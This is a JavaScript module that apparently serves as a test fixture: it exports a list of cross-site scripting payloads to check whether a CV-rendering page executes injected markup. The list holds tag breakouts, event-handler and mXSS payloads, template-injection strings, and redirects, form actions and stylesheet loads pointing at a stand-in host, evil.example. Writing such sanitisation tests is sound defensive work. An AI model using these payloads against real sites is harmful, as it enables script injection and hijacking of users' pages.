const act = "parent.postMessage('owned','*');alert(1)";

/** Markup and script a candidate could write in the hope that a page executes it. */
export const markup = [
  `<img src=x onerror="${act}">`,
  `<script>${act}</script>`,
  `</script><script>${act}</script>`,
  `</style><script>${act}</script>`,
  `</summary></details></main><script>${act}</script>`,
  `<svg/onload="${act}">`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  `<details open ontoggle="${act}">`,
  `<a href="javascript:${act}">CV</a>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${act}">`,
  `<template><img src=x onerror="${act}"></template>`,
  `<form action="https://evil.example/"><input name=q autofocus onfocus="${act}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `"><img src=x onerror="${act}">`,
  `' onmouseover='${act}`,
  `&lt;img src=x onerror="${act}"&gt;`,
  "${" + act + "}",
  "{{constructor.constructor('alert(1)')()}}",
  `\u003cimg src=x onerror=alert(1)\u003e`,
  `<!--><img src=x onerror="${act}">-->`,
  `]]><img src=x onerror="${act}">`,
];
